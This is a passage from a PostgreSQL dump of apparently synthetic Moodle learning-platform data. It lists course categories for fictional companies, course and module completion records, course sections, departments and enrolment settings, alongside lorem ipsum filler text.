montes, nascetur ridiculus mus. Mauris tincidunt sem sed arcu. Nullam feugiat, turpis at pulvinar vulputate, erat libero tristique tellus, nec bibendum odio risus sit amet ante. Aliquam id dolor. Maecenas sollicitudin. Et harum quidem rerum facilis est et expedita distinctio. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Nullam dapibus fermentum ipsum. Pellentesque habitant morbi tristique senectus et netus et malesuada fames ac turpis egestas. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Pellentesque sapien. Duis risus. Mauris elementum mauris vitae tortor. Suspendisse nisl. Integer rutrum, orci vestibulum ullamcorper ultricies, lacus quam ultricies odio, vitae placerat pede sem sit amet enim.\nIn laoreet, magna id viverra tincidunt, sem odio bibendum justo, vel imperdiet sapien wisi sed libero. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Nullam justo enim, consectetuer nec, ullamcorper ac, vestibulum in, elit. Quis autem vel eum iure reprehenderit qui in ea voluptate velit esse quam nihil molestiae consequatur, vel illum qui dolorem eum fugiat quo voluptas nulla pariatur? Maecenas lorem. Etiam posuere lacus quis dolor. Class aptent taciti sociosqu ad litora torquent per conubia nostra, per inceptos hymenaeos. Curabitur ligula sapien, pulvinar a vestibulum quis, facilisis vel sapien. Nam sed tellus id magna elementum tincidunt. Suspendisse nisl. Vivamus luctus egestas leo. Nulla non arcu lacinia neque faucibus fringilla. Etiam dui sem, fermentum vitae, sagittis id, malesuada in, quam. Etiam dictum tincidunt diam. Etiam commodo dui eget wisi. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Duis ante orci, molestie vitae vehicula venenatis, tincidunt ac pede. Pellentesque sapien.	0	topics	1	0	1788303600	0	0	0	0	0	0	1	1	\N	1	0	0				1788340200	1788340200	0	1	0	1795176001	\N	0	1
\.


--
-- Data for Name: mdl_course_categories; Type: TABLE DATA; Schema: public; Owner: -
--

COPY public.mdl_course_categories (id, name, idnumber, description, descriptionformat, parent, sortorder, coursecount, visible, visibleold, timemodified, depth, path, theme) FROM stdin;
7	Empty Co	\N	\N	0	0	10000	0	1	1	0	1	/7	\N
3	Globex Corporation	\N	\N	0	0	50000	4	1	1	0	1	/3	\N
4	Ünïcode & Söhne GmbH 日本 "O'Neil"	\N	\N	0	0	40000	2	1	1	0	1	/4	\N
5	Hooli	\N	\N	0	0	30000	2	1	1	0	1	/5	\N
6	Umbrella (suspended)	\N	\N	0	0	20000	1	1	1	0	1	/6	\N
2	Acme Learning	\N	\N	0	0	60000	4	1	1	0	1	/2	\N
1	Category 1	\N	\N	1	0	70000	2	1	1	1795225892	1	/1	\N
\.


--
-- Data for Name: mdl_course_completions; Type: TABLE DATA; Schema: public; Owner: -
--

COPY public.mdl_course_completions (id, userid, course, timeenrolled, timestarted, timecompleted, reaggregate) FROM stdin;
33	11	3	1788596051	1788862100	\N	0
74	31	5	1788599344	1789120842	1791712911	0
32	10	3	1788595866	1792920590	1792920690	0
192	38	11	0	1793178060	\N	0
193	39	11	0	1793178090	\N	0
194	11	2	1793178180	0	\N	0
195	40	11	1788600528	0	\N	0
196	41	11	1788600602	0	\N	0
197	42	11	1788600676	0	\N	0
198	43	11	1788600750	0	\N	0
199	44	11	1788600824	0	\N	0
200	45	11	1788600898	0	\N	0
202	48	11	1788601083	0	\N	0
105	21	7	1788597420	1788597420	1792920890	0
106	22	7	1788597531	1788597531	1792920920	0
107	23	7	1788597716	1788597716	1792920950	0
8	15	2	1788596643	1792919440	1792919560	0
15	26	2	1788598345	1789380446	\N	0
20	31	2	1788599307	1789121267	\N	0
9	17	2	1788596939	1790157982	1792919640	0
10	19	2	1788597161	1790417457	\N	0
24	36	2	1788600306	1788862326	\N	0
13	23	2	1788597790	1790417481	\N	0
18	29	2	1788598900	1791194822	\N	0
7	14	2	1788596532	1789380436	1791453941	0
25	59	2	1788601897	1790417706	\N	0
3	9	2	1788595718	1790676606	\N	0
12	22	2	1788597642	1788862261	\N	0
16	27	2	1788598530	1789121253	\N	0
22	34	2	1788599936	1791972677	\N	0
4	10	2	1788595829	1792918800	1792918920	0
1	5	2	1788595311	0	\N	0
2	7	2	1788602555	0	\N	0
11	20	2	1788597235	0	\N	0
14	25	2	1788598123	0	\N	0
19	30	2	1788599122	0	\N	0
23	35	2	1788600121	0	\N	0
17	28	2	1788598715	1788862291	\N	0
26	60	2	1788601971	0	\N	0
80	39	5	1788600491	1789120923	1789898643	0
36	14	3	1788596569	0	\N	0
37	15	3	1788596680	0	\N	0
40	20	3	1788597272	0	\N	0
41	6	4	1788595422	0	\N	0
62	6	5	1788595459	1789898400	\N	0
43	8	4	1788595644	0	\N	0
45	10	4	1788595903	0	\N	0
70	23	5	1788597827	1789898521	\N	0
78	36	5	1788600343	1789898564	\N	0
51	17	4	1788597013	0	\N	0
52	20	4	1788597309	0	\N	0
53	21	4	1788597494	0	\N	0
55	24	4	1788597975	0	\N	0
56	25	4	1788598086	0	\N	0
58	27	4	1788598493	0	\N	0
59	28	4	1788598678	0	\N	0
60	30	4	1788599085	0	\N	0
99	31	6	1788599196	1791195235	1791713725	0
65	15	5	1788596717	0	\N	0
83	42	5	1788600713	1788861741	\N	0
68	20	5	1788597346	0	\N	0
71	25	5	1788598160	0	\N	0
73	30	5	1788599159	0	\N	0
84	43	5	1788600787	1788861827	\N	0
81	40	5	1788600565	0	\N	0
86	45	5	1788600935	0	\N	0
98	30	6	1788598974	0	\N	0
103	35	6	1788600010	0	\N	0
108	24	7	1788597864	0	\N	0
109	25	7	1788598012	0	\N	0
110	26	7	1788598234	0	\N	0
111	27	7	1788598419	0	\N	0
112	28	7	1788598567	0	\N	0
113	29	7	1788598789	0	\N	0
114	30	7	1788599011	0	\N	0
115	32	7	1788599418	0	\N	0
117	34	7	1788599788	0	\N	0
118	35	7	1788600047	0	\N	0
119	36	7	1788600195	0	\N	0
120	21	8	1788597457	0	\N	0
121	24	8	1788597901	0	\N	0
122	25	8	1788598049	0	\N	0
123	28	8	1788598604	0	\N	0
124	29	8	1788598826	0	\N	0
125	31	8	1788599233	0	\N	0
126	32	8	1788599455	0	\N	0
128	34	8	1788599825	0	\N	0
129	35	8	1788600084	0	\N	0
130	36	8	1788600232	0	\N	0
131	3	9	1788602304	0	\N	0
132	4	9	1788602341	0	\N	0
102	34	6	1788599751	1789380910	1790418425	0
42	7	4	1788595533	1789380579	1789380579	0
85	44	5	1788600861	1789898889	\N	0
29	4	3	1788595237	1788862023	\N	0
88	47	5	1788601046	1788861903	\N	0
89	48	5	1788601120	1788861967	\N	0
34	12	3	1788596236	1789899059	\N	0
44	9	4	1788595755	1790935755	1790935755	0
61	34	4	1788599899	1788862680	1788862680	0
90	49	5	1788601231	1789380256	\N	0
69	22	5	1788597679	1789120836	\N	0
35	13	3	1788596384	1789121080	\N	0
82	41	5	1788600639	1789120963	\N	0
93	53	5	1788601564	1789121040	\N	0
64	13	5	1788596458	1789380059	\N	0
49	14	4	1788596606	1789380613	1789380613	0
28	64	2	1788602156	1789899638	\N	0
100	32	6	1788599381	1789380897	\N	0
67	17	5	1788597050	1789639283	\N	0
77	34	5	1788599973	1789639358	\N	0
94	56	5	1788601712	1789639448	\N	0
39	17	3	1788596976	1789639493	\N	0
47	12	4	1788596273	1790158325	1790158325	0
91	51	5	1788601342	1790157814	\N	0
38	16	3	1788596791	1789899168	1791194735	0
57	26	4	1788598308	1790676949	1790676949	0
72	29	5	1788598937	1790935332	\N	0
92	52	5	1788601453	1790935511	\N	0
46	11	4	1788596088	1788862455	1788862455	0
63	12	5	1788596310	1791194419	\N	0
50	16	4	1788596828	1791454271	1791454271	0
104	36	6	1788600158	1789640316	1791454581	0
31	8	3	1788595607	1788862079	1791972464	0
79	38	5	1788600417	1791972249	\N	0
95	26	6	1788598197	1792919760	1792919800	0
96	27	6	1788598382	1788862846	1792919880	0
97	29	6	1788598752	1791195194	1792919920	0
30	5	3	1788595348	1792920490	1792920640	0
48	13	4	1788596421	1789899663	1789899663	0
133	22	9	1788597568	0	\N	0
134	24	9	1788597938	0	\N	0
135	26	9	1788598271	0	\N	0
136	27	9	1788598456	0	\N	0
137	28	9	1788598641	0	\N	0
138	29	9	1788598863	0	\N	0
139	30	9	1788599048	0	\N	0
140	31	9	1788599270	0	\N	0
141	32	9	1788599492	0	\N	0
143	36	9	1788600269	0	\N	0
191	8	5	0	1789639221	\N	0
180	13	15	1788596495	1789899285	\N	0
27	63	2	1788602082	1788862412	\N	0
160	50	13	1788601268	0	\N	0
161	51	13	1788601305	0	\N	0
162	52	13	1788601416	0	\N	0
163	53	13	1788601527	0	\N	0
166	57	13	1788601749	0	\N	0
167	58	13	1788601823	0	\N	0
169	60	14	1788601934	0	\N	0
177	10	15	1788595977	0	\N	0
179	12	15	1788596347	0	\N	0
181	15	15	1788596754	0	\N	0
186	20	15	1788597383	0	\N	0
189	5	16	1788602267	0	\N	0
182	16	15	1788596902	1789380361	\N	0
187	3	16	1788602193	1788863279	1790677377	0
156	53	12	1788601490	1790936080	1790936080	0
174	5	15	1788595385	1792921102	1792921102	0
155	52	12	1788601379	1788863092	1788863092	0
154	49	12	1788601157	1789381076	1789381076	0
178	11	15	1788596162	1789121161	\N	0
165	56	13	1788601675	1790936270	1790936270	0
175	7	15	1788595570	1789639562	1792921102	0
158	58	12	1788601786	1789121847	1789121847	0
171	63	14	1788602045	1788863190	\N	0
159	49	13	1788601194	1789900039	1789900039	0
188	4	16	1788602230	1789121916	\N	0
75	32	5	1788599529	1788861652	1789380129	0
164	54	13	1788601638	1789900197	1789900197	0
54	22	4	1788597605	1789640092	1789640092	0
157	54	12	1788601601	1789640438	1789640438	0
184	18	15	1788597124	1789121190	1790157953	0
176	9	15	1788595792	1791972499	1792921102	0
168	59	14	1788601860	1790158631	\N	0
172	64	14	1788602119	1790158685	\N	0
185	19	15	1788597198	1791453864	\N	0
66	16	5	1788596865	1788861600	\N	0
190	3	5	0	1789639200	\N	0
183	17	15	1788597087	1788862106	1790676543	0
170	62	14	1788602008	1789381086	\N	0
142	34	9	1788599862	1788599862	1748779200	0
173	4	15	1788595274	1791453802	1792921102	0
\.


--
-- Data for Name: mdl_course_modules; Type: TABLE DATA; Schema: public; Owner: -
--

COPY public.mdl_course_modules (id, course, module, instance, section, idnumber, added, score, indent, visible, visibleoncoursepage, visibleold, groupmode, groupingid, completion, completiongradeitemnumber, completionview, completionexpected, completionpassgrade, showdescription, availability, deletioninprogress, downloadcontent, lang) FROM stdin;
23	9	18	22	15		1788340980	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
1	2	18	1	1		1788339720	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
14	5	18	13	7		1788340320	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
2	2	18	2	1		1788339740	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
3	2	18	3	1		1788339760	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
4	2	18	4	1		1788339780	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
5	3	18	5	3		1788339920	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
15	5	18	14	7		1788340340	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
6	3	18	6	3		1788339940	0	0	1	1	1	0	0	2	\N	1	0	0	0	\N	0	1	\N
7	3	1	1	3		1788339960	0	0	1	1	1	0	0	2	0	0	0	0	0	\N	0	1	\N
8	4	18	7	5		1788340080	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
9	4	18	8	5		1788340100	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
10	4	18	9	5		1788340120	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
16	5	18	15	7		1788340360	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
11	4	18	10	5		1788340140	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
12	4	18	11	5		1788340160	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
13	4	18	12	5		1788340180	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
17	6	18	16	9		1788340500	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
24	9	18	23	15		1788341000	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
18	6	18	17	9		1788340520	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
19	7	18	18	11		1788340660	0	0	1	1	1	0	0	0	\N	0	0	0	0	\N	0	1	\N
20	8	18	19	13		1788340800	0	0	1	1	1	0	0	0	\N	0	0	0	0	\N	0	1	\N
30	10	18	29	17		1788341240	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
21	9	18	20	15		1788340940	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
25	9	18	24	15		1788341020	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
22	9	18	21	15		1788340960	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
26	9	18	25	15		1788341040	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
35	12	18	34	21		1788341580	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
27	9	18	26	15		1788341060	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
31	11	18	30	19		1788341380	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
28	10	18	27	17		1788341200	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
29	10	18	28	17		1788341220	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
32	11	18	31	19		1788341400	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
33	12	18	32	21		1788341540	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
36	13	1	2	23		1788341720	0	0	1	1	1	0	0	2	0	0	0	1	0	\N	0	1	\N
34	12	18	33	21		1788341560	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
39	14	18	37	25		1788341880	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
37	13	18	35	23		1788341720	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
38	14	18	36	25		1788341860	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
40	15	18	38	27		1788342020	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
42	15	18	40	27		1788342060	0	0	0	1	0	0	0	1	\N	0	0	0	0	\N	0	1	\N
41	15	18	39	27		1788342040	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
45	16	18	43	29		1788342240	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
43	15	18	41	27		1788342080	0	0	1	1	1	0	0	0	\N	0	0	0	0	\N	0	1	\N
46	16	18	44	29		1788342260	0	0	1	1	1	0	0	1	\N	0	0	0	0	\N	0	1	\N
\.


--
-- Data for Name: mdl_course_modules_completion; Type: TABLE DATA; Schema: public; Owner: -
--

COPY public.mdl_course_modules_completion (id, coursemoduleid, userid, completionstate, overrideby, timemodified) FROM stdin;
2	16	32	1	\N	1788861652
3	14	42	1	\N	1788861741
4	14	43	1	\N	1788861827
5	14	47	1	\N	1788861903
6	16	48	1	\N	1788861967
8	6	8	1	\N	1788862079
9	6	11	1	\N	1788862100
10	40	17	1	\N	1788862106
11	42	18	1	\N	1788862172
13	3	22	1	\N	1788862261
14	4	28	1	\N	1788862291
15	2	36	1	\N	1788862326
16	3	63	1	\N	1788862412
17	13	11	1	\N	1788862455
19	12	21	1	\N	1788862572
20	12	26	1	\N	1788862629
21	13	34	1	\N	1788862680
22	21	23	1	\N	1788862748
23	27	36	1	\N	1788862776
28	33	52	1	\N	1788863092
29	37	58	1	\N	1788863106
30	38	63	1	\N	1788863190
31	45	3	1	\N	1788863279
32	16	11	1	\N	1789120800
33	15	22	1	\N	1789120836
34	14	31	1	\N	1789120842
35	14	32	1	\N	1789120861
36	16	39	1	\N	1789120923
37	16	41	1	\N	1789120963
38	16	47	1	\N	1789121010
40	6	13	1	\N	1789121080
41	41	11	1	\N	1789121161
42	40	18	1	\N	1789121190
43	2	27	1	\N	1789121253
44	3	31	1	\N	1789121267
45	11	9	1	\N	1789121325
46	10	16	1	\N	1789121344
47	10	22	1	\N	1789121416
48	22	28	1	\N	1789121428
49	23	31	1	\N	1789121557
50	25	3	1	\N	1789121587
51	24	4	1	\N	1789121598
55	33	58	1	\N	1789121847
56	37	51	1	\N	1789121867
57	39	63	1	\N	1789121885
59	14	11	1	\N	1789380000
60	15	13	1	\N	1789380059
61	15	32	1	\N	1789380129
63	41	16	1	\N	1789380361
65	3	14	1	\N	1789380436
66	2	26	1	\N	1789380446
67	1	63	1	\N	1789380523
68	13	7	1	\N	1789380579
70	27	22	1	\N	1789380717
71	24	29	1	\N	1789380792
72	25	31	1	\N	1789380825
73	25	34	1	\N	1789380865
74	18	32	1	\N	1789380897
75	18	34	1	\N	1789380910
78	33	49	1	\N	1789381076
79	38	62	1	\N	1789381086
80	16	3	1	\N	1789639200
81	16	8	1	\N	1789639221
82	14	17	1	\N	1789639283
83	16	31	1	\N	1789639346
84	14	34	1	\N	1789639358
85	14	39	1	\N	1789639442
86	16	56	1	\N	1789639448
87	5	17	1	\N	1789639493
89	41	7	1	\N	1789639562
90	4	26	1	\N	1789639660
91	3	28	1	\N	1789639753
93	4	36	1	\N	1789639834
94	11	6	1	\N	1789639918
95	11	8	1	\N	1789639947
96	10	12	1	\N	1789640009
97	13	22	1	\N	1789640092
98	9	34	1	\N	1789640125
99	25	22	1	\N	1789640166
100	21	4	1	\N	1789640233
101	17	36	1	\N	1789640316
102	34	52	1	\N	1789640425
103	33	54	1	\N	1789640438
58	46	4	0	\N	1789640506
104	16	6	1	\N	1789898400
105	15	8	1	\N	1789898471
106	15	23	1	\N	1789898521
107	16	36	1	\N	1789898564
108	15	39	1	\N	1789898643
109	15	42	1	\N	1789898768
110	16	43	1	\N	1789898833
111	14	44	1	\N	1789898889
112	5	4	1	\N	1789899017
113	5	12	1	\N	1789899059
114	7	13	2	\N	1789899092
115	5	16	1	\N	1789899168
116	42	7	1	\N	1789899219
117	41	13	1	\N	1789899285
69	13	14	0	\N	1790935797
18	11	12	0	\N	1790417855
1	16	16	0	\N	1791712856
62	15	49	1	\N	1791194631
39	16	53	0	\N	1791713301
7	7	4	2	\N	1792920440
122	4	63	1	\N	1789899549
123	4	64	1	\N	1789899638
124	12	9	1	\N	1789899656
125	8	13	1	\N	1789899663
126	9	14	1	\N	1789899687
127	10	21	1	\N	1789899709
128	11	34	1	\N	1789899781
129	24	27	1	\N	1789899850
130	26	3	1	\N	1789899898
132	36	49	2	\N	1789900039
133	36	51	3	\N	1789900101
134	36	53	3	\N	1789900110
135	36	54	2	\N	1789900197
136	36	58	3	\N	1789900284
137	14	49	1	\N	1790157779
138	14	51	1	\N	1790157814
139	5	8	1	\N	1790157861
141	41	18	1	\N	1790157953
142	4	17	1	\N	1790157982
144	4	31	1	\N	1790158122
146	13	12	1	\N	1790158325
147	21	27	1	\N	1790158384
148	34	54	1	\N	1790158568
149	37	49	1	\N	1790158600
150	38	59	1	\N	1790158631
151	39	64	1	\N	1790158685
152	14	16	1	\N	1790416838
154	42	4	1	\N	1790417284
155	42	17	1	\N	1790417335
157	2	14	1	\N	1790417402
158	3	17	1	\N	1790417417
159	1	19	1	\N	1790417457
160	4	23	1	\N	1790417481
161	3	59	1	\N	1790417706
162	8	11	1	\N	1790417802
163	10	24	1	\N	1790417922
164	12	27	1	\N	1790418009
165	22	23	1	\N	1790418021
166	23	24	1	\N	1790418068
167	26	31	1	\N	1790418146
168	21	32	1	\N	1790418206
169	22	3	1	\N	1790418335
24	17	27	1	\N	1790418377
170	17	34	1	\N	1790418425
173	37	56	1	\N	1790418693
174	14	3	1	\N	1790676000
175	14	6	1	\N	1790676087
176	15	17	1	\N	1790676177
177	16	34	1	\N	1790676244
178	6	12	1	\N	1790676403
179	6	16	1	\N	1790676486
180	41	17	1	\N	1790676543
181	3	9	1	\N	1790676606
182	1	14	1	\N	1790676714
183	3	36	1	\N	1790676836
184	11	11	1	\N	1790676891
185	11	16	1	\N	1790676896
186	8	26	1	\N	1790676949
187	12	34	1	\N	1790676978
188	24	26	1	\N	1790677013
189	27	28	1	\N	1790677089
191	34	49	1	\N	1790677204
192	35	52	1	\N	1790677261
193	35	54	1	\N	1790677275
194	46	3	1	\N	1790677377
195	15	29	1	\N	1790935332
197	15	52	1	\N	1790935511
198	7	11	2	\N	1790935551
199	3	23	1	\N	1790935603
143	3	26	0	\N	1790935635
200	13	9	1	\N	1790935755
201	10	26	1	\N	1790935838
202	21	22	1	\N	1790935845
203	25	24	1	\N	1790935897
204	22	36	1	\N	1790935968
205	33	53	1	\N	1790936080
206	36	52	3	\N	1790936197
207	36	56	2	\N	1790936270
208	15	11	1	\N	1791194400
209	14	12	1	\N	1791194419
210	16	51	1	\N	1791194639
211	7	16	3	\N	1791194735
212	2	29	1	\N	1791194822
213	12	6	1	\N	1791194874
214	26	28	1	\N	1791195114
215	18	29	1	\N	1791195194
216	18	31	1	\N	1791195235
233	37	53	1	\N	1791455013
218	37	57	1	\N	1791195703
220	15	48	1	\N	1791453716
221	41	4	1	\N	1791453802
222	40	19	1	\N	1791453864
223	4	14	1	\N	1791453941
224	3	27	1	\N	1791454029
225	2	59	1	\N	1791454106
226	12	14	1	\N	1791454243
227	13	16	1	\N	1791454271
228	9	21	1	\N	1791454353
229	21	28	1	\N	1791454443
230	18	36	1	\N	1791454581
232	34	53	1	\N	1791454851
172	37	52	1	\N	1791455005
234	39	62	1	\N	1791455091
235	15	31	1	\N	1791712911
236	1	9	1	\N	1791713349
237	2	22	1	\N	1791713397
238	1	27	1	\N	1791713457
239	10	6	1	\N	1791713489
240	9	9	1	\N	1791713515
241	13	13	1	\N	1791713524
242	25	23	1	\N	1791713547
243	23	34	1	\N	1791713650
244	17	31	1	\N	1791713725
245	14	13	1	\N	1791972115
246	16	22	1	\N	1791972158
247	15	38	1	\N	1791972249
248	15	44	1	\N	1791972346
249	14	52	1	\N	1791972392
251	6	17	1	\N	1791972472
252	41	9	1	\N	1791972499
253	3	34	1	\N	1791972677
254	12	7	1	\N	1791972773
255	21	29	1	\N	1791972856
256	21	36	1	\N	1791972938
259	1	10	1	\N	1792918800
260	2	10	1	\N	1792918840
262	4	10	1	\N	1792918920
266	1	15	1	\N	1792919440
267	2	15	1	\N	1792919480
268	3	15	1	\N	1792919520
269	4	15	1	\N	1792919560
270	1	17	1	\N	1792919600
271	2	17	1	\N	1792919640
272	17	26	1	\N	1792919760
273	18	26	1	\N	1792919800
274	18	27	1	\N	1792919880
275	17	29	1	\N	1792919920
276	22	29	1	\N	1792920160
277	23	29	1	\N	1792920200
278	21	31	1	\N	1792920240
279	22	31	1	\N	1792920260
280	24	31	1	\N	1792920300
281	27	31	1	\N	1792920360
261	3	10	0	\N	1792920380
282	7	5	3	\N	1792920490
250	7	8	2	\N	1792920540
283	7	10	3	\N	1792920590
284	5	5	1	\N	1792920640
285	6	5	1	\N	1792920640
286	5	10	1	\N	1792920690
287	6	10	1	\N	1792920690
288	36	50	3	\N	1792920840
289	40	4	1	\N	1792921102
290	40	5	1	\N	1792921102
291	41	5	1	\N	1792921102
292	40	7	1	\N	1792921102
293	40	9	1	\N	1792921102
294	42	9	1	\N	1792921102
297	32	38	1	\N	1793178060
298	32	39	1	\N	1793178090
\.


--
-- Data for Name: mdl_course_sections; Type: TABLE DATA; Schema: public; Owner: -
--

COPY public.mdl_course_sections (id, course, section, name, summary, summaryformat, sequence, visible, availability, timemodified) FROM stdin;
2	2	1	\N		1		1	\N	1788339600
1	2	0	\N		1	1,2,3,4	1	\N	1788339600
4	3	1	\N		1		1	\N	1788339800
3	3	0	\N		1	5,6,7	1	\N	1788339800
6	4	1	\N		1		1	\N	1788339960
5	4	0	\N		1	8,9,10,11,12,13	1	\N	1788339960
8	5	1	\N		1		1	\N	1788340200
7	5	0	\N		1	14,15,16	1	\N	1788340200
10	6	1	\N		1		1	\N	1788340380
9	6	0	\N		1	17,18	1	\N	1788340380
12	7	1	\N		1		1	\N	1788340540
11	7	0	\N		1	19	1	\N	1788340540
14	8	1	\N		1		1	\N	1788340680
13	8	0	\N		1	20	1	\N	1788340680
16	9	1	\N		1		1	\N	1788340820
15	9	0	\N		1	21,22,23,24,25,26,27	1	\N	1788340820
18	10	1	\N		1		1	\N	1788341080
17	10	0	\N		1	28,29,30	1	\N	1788341080
20	11	1	\N		1		1	\N	1788341260
19	11	0	\N		1	31,32	1	\N	1788341260
22	12	1	\N		1		1	\N	1788341420
21	12	0	\N		1	33,34,35	1	\N	1788341420
24	13	1	\N		1		1	\N	1788341600
23	13	0	\N		1	36,37	1	\N	1788341600
26	14	1	\N		1		1	\N	1788341740
25	14	0	\N		1	38,39	1	\N	1788341740
28	15	1	\N		1		1	\N	1788341900
30	16	1	\N		1		1	\N	1788342120
29	16	0	\N		1	45,46	1	\N	1788342120
27	15	0	\N		1	40,41,42,43	1	\N	1788341900
\.


--
-- Data for Name: mdl_department; Type: TABLE DATA; Schema: public; Owner: -
--

COPY public.mdl_department (id, name, shortname, company, parent) FROM stdin;
1	Acme Learning	acme	1	0
2	Globex Corporation	globex	2	0
3	Ünïcode & Söhne GmbH 日本 "O'Neil"	unicode	3	0
4	Hooli	hooli	4	0
5	Umbrella (suspended)	umbrella	5	0
6	Empty Co	empty	6	0
7	Sales	2bde8f6b	1	1
8	Support	7182f135	1	1
9	R&D Ünit	412d9421	1	1
10	Sales	c4bc5e4a	2	2
11	Support	033c4baf	2	2
12	R&D Ünit	6a07e520	2	2
13	Sales	306c3b27	3	3
14	Support	0fb7c6da	3	3
15	R&D Ünit	c20fe198	3	3
16	Sales	20ee1348	4	4
17	Support	7d7111fa	4	4
18	R&D Ünit	e190e92f	4	4
19	Sales	49748c3b	5	5
20	Support	95e19c53	5	5
21	R&D Ünit	cdc8c528	5	5
22	Sales	b8e9da80	6	6
23	Support	b0707d3e	6	6
24	R&D Ünit	5c48bcef	6	6
\.


--
-- Data for Name: mdl_enrol; Type: TABLE DATA; Schema: public; Owner: -
--

COPY public.mdl_enrol (id, enrol, status, courseid, sortorder, name, enrolperiod, enrolstartdate, enrolenddate, expirynotify, expirythreshold, notifyall, password, cost, currency, roleid, customint1, customint2, customint3, customint4, customint5, customint6, customint7, customint8, customchar1, customchar2, customchar3, customdec1, customdec2, customtext1, customtext2, customtext3, customtext4, timecreated, timemodified) FROM stdin;
1	manual	0	2	0	\N	0	0	0	0	86400	0	\N	\N	\N	5	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788339600	1788339600
2	guest	1	2	1	\N	0	0	0	0	0	0		\N	\N	0	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788339600	1788339600
4	license	1	2	3	\N	0	0	0	0	0	0	\N	\N	\N	5	\N	0	\N	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788339600	1788339600
5	manual	0	3	0	\N	0	0	0	0	86400	0	\N	\N	\N	5	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788339800	1788339800
6	guest	1	3	1	\N	0	0	0	0	0	0		\N	\N	0	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788339800	1788339800
7	self	1	3	2	\N	0	0	0	0	86400	0	\N	\N	\N	5	0	0	0	1	0	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788339800	1788339800
8	license	1	3	3	\N	0	0	0	0	0	0	\N	\N	\N	5	\N	0	\N	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788339800	1788339800
9	manual	0	4	0	\N	0	0	0	0	86400	0	\N	\N	\N	5	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788339960	1788339960
10	guest	1	4	1	\N	0	0	0	0	0	0		\N	\N	0	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788339960	1788339960
11	self	1	4	2	\N	0	0	0	0	86400	0	\N	\N	\N	5	0	0	0	1	0	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788339960	1788339960
12	license	1	4	3	\N	0	0	0	0	0	0	\N	\N	\N	5	\N	0	\N	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788339960	1788339960
13	manual	0	5	0	\N	0	0	0	0	86400	0	\N	\N	\N	5	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788340200	1788340200
14	guest	1	5	1	\N	0	0	0	0	0	0		\N	\N	0	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788340200	1788340200
16	license	1	5	3	\N	0	0	0	0	0	0	\N	\N	\N	5	\N	0	\N	1	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	\N	1788340200	1788340200
